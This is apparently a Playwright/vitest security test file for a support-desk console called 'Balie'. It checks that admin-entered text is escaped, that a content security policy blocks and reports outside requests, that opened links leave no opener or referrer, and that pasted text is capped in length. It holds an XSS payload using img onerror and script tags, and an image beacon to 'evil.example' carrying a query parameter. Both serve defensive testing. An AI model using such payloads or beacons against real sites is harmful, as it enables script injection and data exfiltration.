import { expect, test } from 'vitest';
import { limits } from '../protocol/limits.ts';
import { useDesk } from './harness/desk.ts';

const openDesk = useDesk();
const markup = '<img src=x onerror="document.title=1"><script>document.title=2</script>';

/** Elements that only markup could have made, in every shadow root; the console has none of them at its settings. */
const oddElements = () => {
  const roots: (Document | ShadowRoot)[] = [document];
  for (const root of roots)
    for (const element of root.querySelectorAll('*')) if (element.shadowRoot) roots.push(element.shadowRoot);
  return roots.flatMap((root) => [...root.querySelectorAll('img, [onerror]')].map(({ outerHTML }) => outerHTML));
};

test('C141 what administrators write is text on every page of the settings, and in the audit log', async () => {
  const desk = await openDesk();
  const { page } = await desk.agent('admin', null);
  await page.evaluate(async (text) => {
    const { csrf } = await (await fetch('/api/session')).json();
    const send = async (method: string, path: string, body: object) => {
      const headers = { 'content-type': 'application/json', 'x-csrf-token': csrf };
      const answer = await fetch(`/api${path}`, { method, headers, body: JSON.stringify(body) });
      if (!answer.ok) throw new Error(`${path}: ${await answer.text()}`);
      return answer.json();
    };
    const queue = await send('POST', '/queues', { name: text });
    await send('PATCH', `/queues/${queue.id}`, { welcome: text, waiting: text });
    await send('POST', '/profiles', { name: text, queues: [queue.id] });
    await send('POST', '/presets', { queue: queue.id, folder: text, title: text, text });
    const options = ['one', 'two'].map((value) => ({ value, label: `${text}${value}` }));
    await send('POST', '/saved-offers', {
      name: text,
      content: { title: text, options, least: 1, most: 1, optional: false },
    });
    await send('PATCH', '/sites/gloed', { name: text, labels: { name: text.slice(0, 60) } });
    const person = { name: text, email: 'markup@balie.example', role: 'agent', room: 4, languages: [], profiles: [] };
    await send('POST', '/people', person);
  }, markup);
  for (const place of ['people', 'queues', 'profiles', 'presets', 'sites', 'audit']) {
    await page.goto(`${desk.product.url}/console/#/${place}`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.getByText(markup).locator('visible=true').first().waitFor();
    expect([place, await page.evaluate(oddElements)]).toEqual([place, []]);
    expect(await page.title()).toBe('Balie');
  }
});

test('C142 what the policy keeps out of the console, the operator is told', async () => {
  const desk = await openDesk();
  const context = await desk.openUnwatched();
  const page = await context.newPage();
  await page.goto(`${desk.product.url}/console/`);
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/picture?of=somebody';
  });
  await expect.poll(() => desk.product.output()).toMatch(/"blocked":"https:\/\/evil\.example","page":"\/console"/);
  expect(desk.product.output()).not.toContain('somebody');
});

test('C154 what a visitor links to cannot reach the console, nor learns of it', async () => {
  const desk = await openDesk();
  const anna = await desk.agent('anna');
  const visitor = await desk.visitor();
  await visitor.requestAs('Vera');
  await anna.accept(/Vera/);
  await visitor.say(`Look at ${desk.product.shopUrl}/help`);
  const [opened] = await Promise.all([
    anna.context.waitForEvent('page'),
    anna.chat.getByRole('link', { name: /help/ }).click(),
  ]);
  await opened.waitForLoadState();
  expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
});

test('C153 five megabytes that an agent pastes are plain text, cut to what can be shortened, and too long to be sent', async () => {
  const desk = await openDesk();
  const anna = await desk.agent('anna');
  const visitor = await desk.visitor();
  await visitor.requestAs('Vera');
  await anna.accept(/Vera/);
  const box = anna.page.getByRole('textbox', { name: 'Message' });
  await anna.context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await anna.page.evaluate(async (size) => {
    const html = `<b>bold</b>${'x'.repeat(size)}`;
    const kinds = ['text/html', 'text/plain'].map((type) => [type, new Blob([html], { type })]);
    await navigator.clipboard.write([new ClipboardItem(Object.fromEntries(kinds))]);
  }, 5_000_000);
  await box.focus();
  await anna.page.keyboard.press('Control+V');
  await expect.poll(() => anna.button('Send').isDisabled()).toBe(true);
  const kept = await box.inputValue();
  expect([kept.startsWith('<b>bold</b>'), kept.length]).toEqual([true, 4 * limits.messageLength]);
  await box.fill('short again');
  await anna.button('Send').click();
  await visitor.sees('short again');
});
